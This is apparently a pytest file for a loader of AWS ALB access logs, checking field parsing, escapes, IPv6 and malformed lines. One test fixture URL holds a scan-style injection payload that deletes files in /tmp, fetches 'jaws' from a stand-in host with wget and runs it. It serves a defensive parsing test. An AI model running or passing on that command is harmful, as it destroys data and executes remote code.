"""ALB access logs: every field of every shape, checked as whole rows."""

from __future__ import annotations

import dataclasses

import pytest
from conftest import FIXTURES, load, records, ts

TG = "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/73e2d6bc24d8a067"

DOC_HTTP = {
    "lb": "my-loadbalancer",
    "lb_type": "alb",
    "lb_id": "app/my-loadbalancer/50dc6c495c0c9188",
    "type": "http",
    "time": ts("2018-07-02T22:23:00.186641"),
    "request_at": ts("2018-07-02T22:22:48.364"),
    "client_ip": "192.168.131.39",
    "client_port": 2817,
    "target_ip": "10.0.0.1",
    "target_port": 80,
    "request_processing_time": 0.0,
    "target_processing_time": 0.001,
    "response_processing_time": 0.0,
    "elb_status_code": 200,
    "target_status_code": 200,
    "received_bytes": 34,
    "sent_bytes": 366,
    "http_method": "GET",
    "url": "http://www.example.com:80/",
    "http_version": "HTTP/1.1",
    "user_agent": "curl/7.46.0",
    "ssl_cipher": None,
    "ssl_protocol": None,
    "target_group_arn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067",
    "trace_id": "Root=1-58337262-36d228ad5d99923122bbe354",
    "domain_name": None,
    "chosen_cert_arn": None,
    "matched_rule_priority": 0,
    "actions_executed": "forward",
    "redirect_url": None,
    "error_reason": None,
    "target_port_list": "10.0.0.1:80",
    "target_status_code_list": "200",
    "classification": None,
    "classification_reason": None,
    "conn_trace_id": None,
    "transformed_host": None,
    "transformed_uri": None,
    "request_transform_status": None,
    "ip_address": None,
    "extra_fields": [],
    "source_file": str(FIXTURES / "alb" / "doc_examples.log"),
    "source_line": 1,
}


def by_line(db, name: str) -> dict[int, dict]:
    rows = records(db, "select * from requests where source_file like ? order by source_line", [f"%/{name}"])
    return {row["source_line"]: row for row in rows}


def test_doc_examples_load_whole(db):
    summary = load(db, FIXTURES / "alb" / "doc_examples.log")
    assert (summary.rows, summary.rejected) == (7, 0)
    rows = by_line(db, "doc_examples.log")
    assert rows[1] == DOC_HTTP
    assert rows[2] == DOC_HTTP | {
        "type": "https",
        "request_processing_time": 0.086,
        "target_processing_time": 0.048,
        "response_processing_time": 0.037,
        "received_bytes": 0,
        "sent_bytes": 57,
        "url": "https://www.example.com:443/",
        "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
        "ssl_protocol": "TLSv1.2",
        "trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
        "domain_name": "www.example.com",
        "chosen_cert_arn": "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
        "matched_rule_priority": 1,
        "actions_executed": "authenticate,forward",
        "source_line": 2,
    }
    # a target that is '-' and a Lambda error: no target, NULL target status
    assert rows[7] | {} == DOC_HTTP | {
        "time": ts("2018-11-30T22:23:00.186641"),
        "request_at": ts("2018-11-30T22:22:48.364"),
        "target_ip": None,
        "target_port": None,
        "elb_status_code": 502,
        "target_status_code": None,
        "trace_id": "Root=1-58337364-23a8c76965a2ef7629b185e3",
        "error_reason": "LambdaInvalidResponse",
        "target_port_list": None,
        "target_status_code_list": None,
        "source_line": 7,
    }
    assert [rows[n]["type"] for n in range(1, 8)] == ["http", "https", "h2", "ws", "wss", "http", "http"]


def test_every_historic_field_count_loads(db):
    summary = load(db, FIXTURES / "alb" / "field_counts.log")
    assert (summary.rows, summary.rejected) == (10, 0)
    rows = by_line(db, "field_counts.log")
    # 18 fields: everything after trace_id is NULL
    assert rows[1]["trace_id"] == "Root=1-00000018-000000000000000000000018"
    assert (rows[1]["domain_name"], rows[1]["request_at"], rows[1]["actions_executed"]) == (None, None, None)
    assert rows[3]["matched_rule_priority"] == 5 and rows[3]["chosen_cert_arn"] == "session-reused"
    assert rows[4]["request_at"] == ts("2019-10-15T09:59:59.96") and rows[4]["target_port_list"] is None
    assert (rows[5]["target_port_list"], rows[5]["classification"]) == ("10.0.1.15:80", None)
    assert (rows[6]["classification"], rows[6]["classification_reason"]) == ("Acceptable", "SpaceInUri")
    assert (rows[7]["conn_trace_id"], rows[7]["transformed_host"]) == ("TID_30303030303030303030303030303030", None)
    # 33: the three placeholders of August 2025 are the transform fields, here empty
    assert rows[8]["conn_trace_id"] == "TID_33333333333333333333333333333333"
    assert (rows[8]["transformed_uri"], rows[8]["extra_fields"]) == (None, [])
    assert rows[9] | {} == rows[9] | {
        "transformed_host": "new.example.com",
        "transformed_uri": "/rewritten?x=1",
        "request_transform_status": "TransformSuccess",
        "ip_address": "3.34.116.99",
        "extra_fields": [],
    }
    # 36 fields (2026): two placeholders beyond ip_address are kept as unknown trailing fields
    assert (rows[10]["ip_address"], rows[10]["extra_fields"]) == ("3.34.116.99", [None, None])
    assert [rows[n]["target_processing_time"] for n in range(1, 11)] == pytest.approx(
        [0.01, 0.02, 0.03, 0.04, 0.05, 0.06, 0.07, 0.08, 0.09, 0.1]
    )


def test_unknown_trailing_fields_are_kept(db):
    load(db, FIXTURES / "alb" / "extra_fields.log")
    (row,) = records(db, "select ip_address, extra_fields, url from requests")
    assert row == {
        "ip_address": "3.34.116.99",
        "extra_fields": [None, None, "future value", "unquoted-future"],
        "url": "https://www.example.com:443/a38",
    }


def test_hex_escapes_are_decoded(db):
    load(db, FIXTURES / "alb" / "escapes.log")
    rows = by_line(db, "escapes.log")
    assert rows[1]["url"] == 'https://www.example.com:443/search?q="quoted"'
    assert rows[1]["user_agent"] == '"Mozilla/5.0 (X11) Tab 10" Build"'
    assert rows[2]["url"] == "https://www.example.com:443/에러"
    assert rows[2]["redirect_url"] == "https://www.example.com:443/dir\\file"
    assert (rows[2]["target_ip"], rows[2]["target_port_list"]) == ("10.0.1.12", None)


def test_domain_name_padded_with_spaces_is_stripped(db, tmp_path):
    """Real lines hold `" some-subdomain.domain.com"`: a server name has no spaces, and the space
    would split the per-domain views in two."""
    line = (FIXTURES / "alb" / "doc_examples.log").read_bytes().splitlines()[1]
    path = tmp_path / "padded.log"
    path.write_bytes(
        line.replace(b'"www.example.com"', b'" www.example.com "')
        + b"\n"
        + line.replace(b'"www.example.com"', b'" - "')
    )
    load(db, path)
    assert records(db, "select source_line, domain_name from requests order by 1") == [
        {"source_line": 1, "domain_name": "www.example.com"},
        {"source_line": 2, "domain_name": None},
    ]


@pytest.mark.parametrize(
    ("line", "method", "url", "version"),
    [
        (1, None, "http://web-prod-1670032515.us-east-1.elb.amazonaws.com:80-", None),
        (2, "GET", "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example.test/jaws;sh+/tmp/jaws", "HTTP/1.1"),
        (3, "SSTP_DUPLEX_POST", "/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/", "HTTP/1.1"),
        (4, "GET", "http://www.example.com:80/old", "HTTP/1.0"),
        (5, "GET", "http://www.example.com:80/", "HTTP/1.1"),
    ],
)
def test_request_line_split_at_first_and_last_space(db, line, method, url, version):
    load(db, FIXTURES / "alb" / "request_shapes.log")
    row = by_line(db, "request_shapes.log")[line]
    assert (row["http_method"], row["url"], row["http_version"]) == (method, url, version)


def test_minus_one_timings_are_null_and_malformed_lines_load(db):
    load(db, FIXTURES / "alb" / "request_shapes.log")
    rows = by_line(db, "request_shapes.log")
    malformed = rows[1]
    assert malformed | {} == malformed | {
        "target_ip": None,
        "request_processing_time": None,
        "target_processing_time": None,
        "response_processing_time": None,
        "elb_status_code": 400,
        "target_status_code": None,
        "target_group_arn": None,
        "trace_id": None,
        "matched_rule_priority": None,
        "request_at": ts("2019-10-15T14:01:24.611"),
        "actions_executed": None,
    }
    client_closed = rows[5]
    assert (client_closed["elb_status_code"], client_closed["target_ip"], client_closed["request_processing_time"]) == (
        460,
        "10.0.0.192",
        None,
    )


def test_ipv6_split_at_last_colon_and_unquoted_target_lists(db):
    load(db, FIXTURES / "alb" / "ipv6_and_unquoted_lists.log")
    (row,) = records(
        db,
        "select client_ip, client_port, target_ip, target_port, target_port_list, "
        "target_status_code_list, matched_rule_priority from requests",
    )
    assert row == {
        "client_ip": "2a02:a33c:4538:1:bcf4:5264:e01c:f215",
        "client_port": 50718,
        "target_ip": "2001:db8::a",
        "target_port": 8000,
        "target_port_list": "2001:db8::a:8000",
        "target_status_code_list": "200",
        "matched_rule_priority": 10160,
    }


def test_summary_counts_every_line(db):
    summary = load(db, FIXTURES / "alb")
    assert dataclasses.asdict(summary) | {"by_kind": None} == {
        "files": 6,
        "loaded": 6,
        "already_loaded": 0,
        "test_files": 0,
        "pruned": 0,
        "lines": 26,
        "rows": 26,
        "rejected": 0,
        "filtered": 0,
        "invalid_utf8_lines": 0,
        "bytes_read": sum(path.stat().st_size for path in (FIXTURES / "alb").iterdir()),
        "by_kind": None,
        "other_kind": [],
    }
